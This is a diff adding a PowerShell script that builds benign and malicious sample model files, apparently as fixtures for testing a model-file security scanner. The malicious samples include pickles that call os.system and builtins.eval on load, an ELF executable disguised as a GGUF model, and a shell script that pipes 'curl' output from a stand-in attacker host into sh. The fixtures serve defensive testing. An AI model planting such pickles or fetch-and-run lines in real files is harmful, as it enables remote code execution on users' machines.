@@ -1,0 +1,110 @@
+#Requires -Version 7.4
+<#
+.SYNOPSIS
+    Writes a small folder of sample model files, benign and malicious, for the Audit task and the tests.
+
+.DESCRIPTION
+    Every file is made here from bytes; nothing is downloaded. The malicious samples are inert data:
+    nothing ever loads them, and ModelSecurity never executes anything. They look the way real
+    attacks look on disk:
+      malicious/pytorch_model.bin        a protocol-0 pickle that calls os.system when unpickled
+      malicious/vectors.safetensors      a protocol-4 pickle (builtins.eval) named as SafeTensors
+      malicious/qwen2.5-7b-instruct.gguf a native ELF executable named as a GGUF model
+      malicious/setup-model.sh           a shell script among the models
+#>
+[CmdletBinding()]
+param([Parameter(Mandatory)][string] $Path)
+
+$ErrorActionPreference = 'Stop'
+
+function New-ByteWriter {
+    $stream = [IO.MemoryStream]::new()
+    return [IO.BinaryWriter]::new($stream, [Text.Encoding]::UTF8)
+}
+
+function Write-GgufString([IO.BinaryWriter] $Writer, [string] $Value) {
+    $bytes = [Text.Encoding]::UTF8.GetBytes($Value)
+    $Writer.Write([uint64]$bytes.Length)
+    $Writer.Write($bytes)
+}
+
+function New-GgufBytes {
+    # GGUF v3: two string KVs, the alignment, one 32x2 F32 tensor at offset 0 of the aligned data.
+    $w = New-ByteWriter
+    $w.Write([Text.Encoding]::ASCII.GetBytes('GGUF'))
+    $w.Write([uint32]3)
+    $w.Write([uint64]1)
+    $w.Write([uint64]3)
+    Write-GgufString $w 'general.architecture'; $w.Write([uint32]8); Write-GgufString $w 'llama'
+    Write-GgufString $w 'general.name'; $w.Write([uint32]8); Write-GgufString $w 'TinyLlama 1.1B Chat sample'
+    Write-GgufString $w 'general.alignment'; $w.Write([uint32]4); $w.Write([uint32]32)
+    Write-GgufString $w 'token_embd.weight'
+    $w.Write([uint32]2); $w.Write([uint64]32); $w.Write([uint64]2); $w.Write([uint32]0); $w.Write([uint64]0)
+    while ($w.BaseStream.Length % 32) { $w.Write([byte]0) }
+    $w.Write([byte[]]::new(32 * 2 * 4))
+    return $w.BaseStream.ToArray()
+}
+
+function New-SafeTensorsBytes {
+    $header = '{"weight":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]},"__metadata__":{"format":"pt"}}'
+    while (($header.Length % 8) -ne 0) { $header += ' ' }
+    $w = New-ByteWriter
+    $w.Write([uint64]$header.Length)
+    $w.Write([Text.Encoding]::ASCII.GetBytes($header))
+    $w.Write([byte[]]::new(16))
+    return $w.BaseStream.ToArray()
+}
+
+function New-NpyBytes {
+    $header = "{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }"
+    $total = 10 + $header.Length + 1
+    $header = $header + (' ' * ((64 - ($total % 64)) % 64)) + "`n"
+    $w = New-ByteWriter
+    $w.Write([byte[]](0x93, 0x4E, 0x55, 0x4D, 0x50, 0x59, 1, 0))
+    $w.Write([uint16]$header.Length)
+    $w.Write([Text.Encoding]::ASCII.GetBytes($header))
+    $w.Write([byte[]]::new(16))
+    return $w.BaseStream.ToArray()
+}
+
+function New-Protocol4EvalPickle {
+    # PROTO 4, SHORT_BINUNICODE 'builtins', SHORT_BINUNICODE 'eval', STACK_GLOBAL,
+    # SHORT_BINUNICODE "print('pwned')", TUPLE1, REDUCE, STOP.
+    $w = New-ByteWriter
+    $w.Write([byte[]](0x80, 0x04))
+    foreach ($s in 'builtins', 'eval') {
+        $w.Write([byte]0x8C); $w.Write([byte]$s.Length); $w.Write([Text.Encoding]::ASCII.GetBytes($s))
+    }
+    $w.Write([byte]0x93)
+    $code = "print('pwned')"
+    $w.Write([byte]0x8C); $w.Write([byte]$code.Length); $w.Write([Text.Encoding]::ASCII.GetBytes($code))
+    $w.Write([byte[]](0x85, 0x52, 0x2E))
+    return $w.BaseStream.ToArray()
+}
+
+function New-ElfBytes {
+    # A minimal ELF64 x86-64 executable header (e_type = ET_EXEC), padded to 128 bytes.
+    $bytes = [byte[]]::new(128)
+    ([byte[]](0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0)).CopyTo($bytes, 0)
+    $bytes[16] = 2; $bytes[18] = 0x3E; $bytes[20] = 1
+    return $bytes
+}
+
+$benign = Join-Path $Path 'benign'
+$malicious = Join-Path $Path 'malicious'
+if (Test-Path -LiteralPath $Path) {
+    Remove-Item -LiteralPath $Path -Recurse -Force
+}
+New-Item -ItemType Directory -Path $benign, $malicious -Force | Out-Null
+
+[IO.File]::WriteAllBytes((Join-Path $benign 'tinyllama-1.1b-chat.Q4_K_M.gguf'), (New-GgufBytes))
+[IO.File]::WriteAllBytes((Join-Path $benign 'model.safetensors'), (New-SafeTensorsBytes))
+[IO.File]::WriteAllBytes((Join-Path $benign 'embeddings.npy'), (New-NpyBytes))
+[IO.File]::WriteAllText((Join-Path $benign 'config.json'), '{"architectures":["LlamaForCausalLM"],"model_type":"llama","torch_dtype":"float16"}')
+
+[IO.File]::WriteAllBytes((Join-Path $malicious 'pytorch_model.bin'), [Text.Encoding]::ASCII.GetBytes("cos`nsystem`n(S'echo pwned'`ntR."))
+[IO.File]::WriteAllBytes((Join-Path $malicious 'vectors.safetensors'), (New-Protocol4EvalPickle))
+[IO.File]::WriteAllBytes((Join-Path $malicious 'qwen2.5-7b-instruct.gguf'), (New-ElfBytes))
+[IO.File]::WriteAllText((Join-Path $malicious 'setup-model.sh'), "#!/bin/sh`ncurl -s http://attacker.invalid/x | sh`n")
+
+Get-ChildItem -LiteralPath $Path -Recurse -File
